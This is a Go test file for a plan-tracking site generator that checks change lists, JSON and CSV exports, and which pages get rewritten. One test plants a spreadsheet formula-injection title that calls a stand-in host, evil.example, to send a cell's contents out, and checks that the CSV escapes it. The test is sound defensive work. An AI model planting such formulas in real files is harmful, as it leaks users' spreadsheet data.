package generator

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"maps"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/plansite/plansite/generator/content"
	"github.com/plansite/plansite/generator/internal/engine"
	"github.com/plansite/plansite/generator/internal/model"
)

// changesAsOf assembles the site at root as of date and returns each
// plan's changes by plan id.
func changesAsOf(t *testing.T, root string, date content.Date) (map[string][]*model.PlanChange, map[string]*model.Plan) {
	t.Helper()
	s, problems := load(root)
	if problems.HasErrors() {
		t.Fatalf("load %s: %v", root, problems)
	}
	c, _ := validate(s)
	site, _ := assemble(s, c, date)
	out, plans := map[string][]*model.PlanChange{}, map[string]*model.Plan{}
	for _, p := range site.Plans {
		out[p.ID], plans[p.ID] = model.PlanChanges(p, date), p
	}
	return out, plans
}

// changeLine is a change as a line of text, to compare lists.
func changeLine(c *model.PlanChange) string {
	return fmt.Sprintf("%s %s %s %s→%s", c.Date, c.Kind, c.Path(), c.Before, c.State)
}

// TestPlanChangesPrefix checks that the changes up to a day are the same
// whatever later day the site is built on: the list needs no record of
// earlier builds, and a build a day later alters no earlier month.
func TestPlanChangesPrefix(t *testing.T) {
	for _, tc := range []struct{ root, early, late string }{
		{repoRoot(t), "2024-03-31", "2026-11-24"},
		{filepath.Join("testdata", "sites", "small"), "2020-12-31", "2021-06-30"},
		{filepath.Join("testdata", "sites", "amended"), "2022-01-01", "2026-01-01"},
	} {
		early, late := mustDate(t, tc.early), mustDate(t, tc.late)
		a, pa := changesAsOf(t, tc.root, early)
		b, pb := changesAsOf(t, tc.root, late)
		for id, got := range a {
			var want []string
			var wantKeys []engine.Key
			for _, c := range b[id] {
				if !early.Before(c.Date) {
					want = append(want, changeLine(c))
					wantKeys = append(wantKeys, c.Key)
				}
			}
			t.Logf("%s: %d changes as of %s, %d as of %s", id, len(got), early, len(b[id]), late)
			if len(got) != len(want) {
				t.Errorf("%s: %d changes as of %s, %d of them as of %s", id, len(got), early, len(want), late)
				continue
			}
			for i, c := range got {
				if changeLine(c) != want[i] {
					t.Errorf("%s: change %d as of %s:\n%s\nas of %s:\n%s", id, i, early, changeLine(c), late, want[i])
				}
				// The plan's header key covers whether it shows demo
				// data, which a demo note dated between the two days
				// changes; else a change's key is the same, and so is
				// the page of its month when no change was added.
				if pa[id].HeaderKey == pb[id].HeaderKey && c.Key != wantKeys[i] {
					t.Errorf("%s: change %d: key as of %s differs from as of %s", id, i, early, late)
				}
			}
		}
	}
}

// changesDoc is a plan's changes.json.
type changesDoc struct {
	Plan    string `json:"plan"`
	Changes []struct {
		Date, Kind, Code, Title, Path, URL string
		TextUK                             string `json:"text_uk"`
		TextEN                             string `json:"text_en"`
	} `json:"changes"`
}

// changesHeader are the columns changes.csv must have, in order.
var changesHeader = "date,kind,measure,code,measure_text,state,before,period,due,indicator,value,note,amendment,title,path,url,text_uk,text_en"

// TestChangesPagesAndData checks each plan's pages of changes against its
// changes.json and the model, and the CSV against the JSON: every change
// up to the build date and none after, as many on each month's and year's
// page as the data has, each month listed on the first page, each state
// change linking an entry of the measure's state history.
func TestChangesPagesAndData(t *testing.T) {
	for _, fs := range []*followSite{shippedFollowSite(t), buildFollowSite(t, filepath.Join("testdata", "sites", "small")), buildFollowSite(t, amendedSite)} {
		asOf := fs.site.AsOf
		planMonths := map[string]map[string]int{}
		for _, p := range fs.site.Plans {
			want := model.PlanChanges(p, asOf)
			var doc changesDoc
			if err := json.Unmarshal(fs.files[p.ID+"/changes.json"], &doc); err != nil {
				t.Fatalf("%s/changes.json: %v", p.ID, err)
			}
			if doc.Plan != p.ID || len(doc.Changes) != len(want) || len(want) == 0 {
				t.Errorf("%s/changes.json: plan %q, %d changes; the model has %d", p.ID, doc.Plan, len(doc.Changes), len(want))
				continue
			}
			checkChangesCSV(t, p.ID, fs.files[p.ID+"/changes.csv"], len(doc.Changes))
			months, years := map[string]int{}, map[string]int{}
			planMonths[p.ID] = months
			for i, c := range doc.Changes {
				if c.Date > asOf.String() || i > 0 && c.Date > doc.Changes[i-1].Date {
					t.Errorf("%s: change %d dated %s: after the build date or out of order", p.ID, i, c.Date)
				}
				if c.Date != want[i].Date.String() || c.Kind != want[i].Kind || c.TextUK == "" || c.TextEN == "" || c.Title == "" {
					t.Errorf("%s: change %d: %+v, the model's %s %s", p.ID, i, c, want[i].Date, want[i].Kind)
				}
				months[c.Date[:7]]++
				years[c.Date[:4]]++
				if c.Kind == "state" {
					checkStateAnchor(t, fs, c.Path)
				}
			}
			for _, lang := range fs.site.Config.Languages {
				dir := langPrefix(lang) + p.ID + "/changes/"
				index := string(fs.files[dir+"index.html"])
				for m, n := range months {
					page := string(fs.files[dir+m+"/index.html"])
					if got := strings.Count(page, `<li class="change change-`); got != n {
						t.Errorf("%s%s/: %d changes listed, the data has %d", dir, m, got, n)
					}
					if !strings.Contains(index, `/changes/`+m+`/"`) {
						t.Errorf("%sindex.html does not link the month %s", dir, m)
					}
				}
				for y, n := range years {
					if got := strings.Count(string(fs.files[dir+y+"/index.html"]), `<li class="change change-`); got != n {
						t.Errorf("%s%s/: %d changes listed, the data has %d", dir, y, got, n)
					}
				}
				if got := strings.Count(index, `class="change-months"`); got != len(years) {
					t.Errorf("%sindex.html: %d years listed, want %d", dir, got, len(years))
				}
			}
		}
		checkPortalChanges(t, fs, planMonths)
	}
}

// checkPortalChanges checks that the portal's page of what changed links
// each plan's months among the latest 24 months with a change, and no
// other.
func checkPortalChanges(t *testing.T, fs *followSite, planMonths map[string]map[string]int) {
	t.Helper()
	all := map[string]bool{}
	for _, months := range planMonths {
		for m := range months {
			all[m] = true
		}
	}
	latest := slices.Sorted(maps.Keys(all))
	slices.Reverse(latest)
	latest = latest[:min(len(latest), 24)]
	for _, lang := range fs.site.Config.Languages {
		portal := string(fs.files[langPrefix(lang)+"changes/index.html"])
		for id, months := range planMonths {
			for m := range months {
				linked := strings.Contains(portal, "/"+id+"/changes/"+m+`/"`)
				if linked != slices.Contains(latest, m) {
					t.Errorf("%schanges/: links %s's month %s: %v", langPrefix(lang), id, m, linked)
				}
			}
		}
	}
}

// checkStateAnchor checks that the site path of a change of state names
// an entry of the measure's state history.
func checkStateAnchor(t *testing.T, fs *followSite, path string) {
	t.Helper()
	page, anchor, ok := strings.Cut(path, "#")
	if !ok || !strings.HasPrefix(anchor, "state-") {
		t.Errorf("change of state links %s: no #state- anchor", path)
		return
	}
	if !strings.Contains(string(fs.files[strings.TrimPrefix(page, "/")+"index.html"]), `id="`+anchor+`"`) {
		t.Errorf("change of state links %s: the page has no such entry", path)
	}
}

// checkChangesCSV reads a changes.csv with a CSV parser: a byte order mark,
// the header, rows rows.
func checkChangesCSV(t *testing.T, plan string, data []byte, rows int) [][]string {
	t.Helper()
	body, ok := bytes.CutPrefix(data, []byte("\uFEFF"))
	if !ok {
		t.Errorf("%s/changes.csv: no byte order mark", plan)
	}
	recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("%s/changes.csv: %v", plan, err)
	}
	if len(recs) != rows+1 || strings.Join(recs[0], ",") != changesHeader {
		t.Errorf("%s/changes.csv: %d records, header %v; want %d rows", plan, len(recs), recs[0], rows)
	}
	return recs
}

// TestChangesCSVFormulaSafe gives a note a title a spreadsheet would run
// as a formula: changes.csv writes it as text, changes.json as it is.
func TestChangesCSVFormulaSafe(t *testing.T) {
	root := copySiteAndTheme(t, filepath.Join("testdata", "sites", "small"))
	evil := `=HYPERLINK("http://evil.example/?"&A1,"клік")`
	writeFile(t, root, "content/plans/town-2020/notes/2021-02-01-formula.md",
		"+++\ndate = 2021-02-01\ntitle = '"+evil+"'\nmeasures = [\"i/1\"]\nstatus = \"виконано\"\nreporter = \"town-ssd\"\n+++\n\nЗвіт.\n")
	res := generate(t, root, "2021-07-01")
	var doc changesDoc
	if err := json.Unmarshal(res.Files["town-2020/changes.json"], &doc); err != nil {
		t.Fatal(err)
	}
	recs := checkChangesCSV(t, "town-2020", res.Files["town-2020/changes.csv"], len(doc.Changes))
	found := false
	for i, c := range doc.Changes {
		if c.Title == evil {
			found = true
			if got := recs[i+1][13]; got != "'"+evil {
				t.Errorf("changes.csv title cell %q: want it marked as text", got)
			}
		}
	}
	if !found {
		t.Error("changes.json: the note's change is missing")
	}
}

// TestChangesAdvanceDate builds the small site day after day into one
// folder: a day without a change rewrites no page of changes, and a day
// with one rewrites only its month's and year's pages, the list of months,
// the portal's page and the data — older months stay as they were.
func TestChangesAdvanceDate(t *testing.T) {
	root := copySiteAndTheme(t, filepath.Join("testdata", "sites", "small"))
	out := filepath.Join(t.TempDir(), "public")
	ctx := context.Background()
	// The days around the small site's last changes: a report on 30 June,
	// then on 1 July a deadline passed — June's page must stay as it was.
	day := mustDate(t, "2021-06-26")
	if _, err := New(WithRoot(root), WithDate(day)).Build(ctx, out); err != nil {
		t.Fatal(err)
	}
	all, _ := changesAsOf(t, root, mustDate(t, "2021-12-31"))
	dated := map[string]bool{}
	for _, c := range all["town-2020"] {
		dated[c.Date.String()] = true
	}
	changedDays := 0
	for i := 0; i < 8; i++ {
		day = day.AddDays(1)
		res, err := New(WithRoot(root), WithDate(day)).Build(ctx, out)
		if err != nil {
			t.Fatal(err)
		}
		d, month := day.String(), day.String()[:7]
		allowed := map[string]bool{"town-2020/changes.csv": true, "town-2020/changes.json": true,
			"changes/index.html": true, "en/changes/index.html": true} // the portal's page
		for _, lang := range []string{"", "en/"} {
			for _, seg := range []string{"", month + "/", month[:4] + "/"} {
				allowed[lang+"town-2020/changes/"+seg+"index.html"] = true
			}
		}
		var written []string
		for _, f := range res.Changed {
			if strings.Contains(f, "changes") {
				written = append(written, f)
				if !allowed[f] {
					t.Errorf("%s: wrote %s, which shows no change of the day", d, f)
				}
			}
		}
		if dated[d] {
			changedDays++
			if !slices.Contains(written, "town-2020/changes/"+month+"/index.html") {
				t.Errorf("%s: a change that day, and its month's page was not written (wrote %v)", d, written)
			}
		} else if len(written) > 0 {
			t.Errorf("%s: no change that day, and wrote %v", d, written)
		}
	}
	if changedDays == 0 {
		t.Error("no day with a change: the test tests nothing")
	}
}

// TestPlanChangeKinds checks changes of every kind the sites have, as
// their content dates them.
func TestPlanChangeKinds(t *testing.T) {
	for _, tc := range []struct {
		root, date, plan string
		want             []string // changeLine of changes that must be listed
		kinds            []string // kinds that must occur
	}{
		{filepath.Join("testdata", "sites", "small"), "2021-07-01", "town-2020", []string{
			"2021-07-01 missed /town-2020/i/2/#state-2021-07-01 →",
			"2021-07-01 state /town-2020/i/2/#state-2021-07-01 due-soon→overdue",
			"2020-12-20 report /town-2020/notes/2020-12-20-komitet/ →",
			"2020-12-20 value /town-2020/notes/2020-12-20-komitet/ →",
			"2020-12-20 state /town-2020/i/1/#state-2020-12-20 due-soon→done",
		}, []string{"report", "value", "state", "missed"}},
		{amendedSite, "2026-01-01", "svatove-2019", []string{
			"2022-03-14 amendment /svatove-2019/versions/1/ →",
			"2022-03-14 state /svatove-2019/ii/2-4/#state-2022-03-14 ongoing→removed",
		}, []string{"amendment", "report", "state", "missed"}},
		{repoRoot(t), "2026-11-24", "dubno-2021", nil, []string{"report", "value", "state", "missed"}},
	} {
		all, _ := changesAsOf(t, tc.root, mustDate(t, tc.date))
		lines, kinds := map[string]bool{}, map[string]bool{}
		for _, c := range all[tc.plan] {
			lines[changeLine(c)] = true
			kinds[c.Kind] = true
		}
		for _, w := range tc.want {
			if !lines[w] {
				t.Errorf("%s as of %s: no change %q", tc.plan, tc.date, w)
			}
		}
		for _, k := range tc.kinds {
			if !kinds[k] {
				t.Errorf("%s as of %s: no change of kind %s", tc.plan, tc.date, k)
			}
		}
	}
}
